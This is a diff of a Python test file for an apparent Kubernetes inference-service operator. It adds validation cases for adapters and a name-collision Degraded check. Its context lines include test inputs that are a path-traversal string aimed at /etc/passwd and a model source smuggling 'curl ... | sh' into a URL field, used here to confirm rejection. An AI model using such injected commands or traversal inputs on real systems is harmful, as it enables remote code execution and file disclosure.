@@ -107,6 +107,10 @@ def test_invalid_objects_rejected_by_cel(cluster, namespace, chart):
              ({"model": {"source": "pvc://claim/../../../etc/passwd"}}, "'..' are not allowed"),
              ({"model": {"source": 'hf://org/repo/x";curl${IFS}x|sh;echo${IFS}"\'.gguf'}}, "source"),
              ({"env": [{"name": "POD_IP", "value": "1.2.3.4"}]}, "cannot be overridden"),
+             ({"adapters": [{"name": "a", "source": "hf://org/a"}, {"name": "a", "source": "hf://org/b"}]}, "Duplicate value"),
+             ({"adapters": [{"name": "a", "source": "https://host/a.gguf"}]}, "an adapter is a directory"),
+             ({"engine": "sglang", "model": {"source": "hf://org/m"}, "adapters": [{"name": "a", "source": "hf://org/a"}]},
+              "adapters are loaded into engine kvpilot or vllm pods"),
              ({"env": [{"name": "HF_TOKEN", "value": "hf_x", "valueFrom": {"secretKeyRef": {"name": "hub", "key": "token"}}}]},
               "give value or valueFrom, not both")]
     for spec, message in cases:
@@ -195,6 +199,14 @@ def test_bad_spec_gives_degraded_and_event(cluster, namespace, operator):
                      timeout=30, what="Degraded/InvalidEngineSettings")
     assert "kv_cache_memory" in condition(obj, "Degraded")["message"] and kget(cluster, "deployment", "tinykv", "-n", namespace) is None
     wait_until(lambda: [e for e in kget(cluster, "events", "-n", namespace)["items"] if e["reason"] == "InvalidEngineSettings"], timeout=20, what="Event")
+    # an adapter named as an older service's model: the gateway routes the name there, so the younger is Degraded
+    # (created in the same second, the one whose name sorts later counts as younger: "twin" > "tinykv")
+    cluster.kubectl("apply", "-n", namespace, "-f", "-", input=isvc("twin", adapters=[{"name": "tinykv", "source": "hf://org/a"}]))
+    obj = wait_until(lambda: (lambda o: o if condition(o, "Degraded").get("reason") == "AdapterNameCollision" else None)(kget(cluster, "kvis", "twin", "-n", namespace)),
+                     timeout=30, what="Degraded/AdapterNameCollision")
+    assert f"'tinykv' is also served by InferenceService {namespace}/tinykv" in condition(obj, "Degraded")["message"]
+    assert condition(kget(cluster, "kvis", "tinykv", "-n", namespace), "Degraded")["reason"] == "InvalidEngineSettings"  # the older one: unaffected
+    wait_until(lambda: [e for e in kget(cluster, "events", "-n", namespace)["items"] if e["reason"] == "AdapterNameCollision"], timeout=20, what="Event")
     assert operator.proc.poll() is None  # no crash
 
 
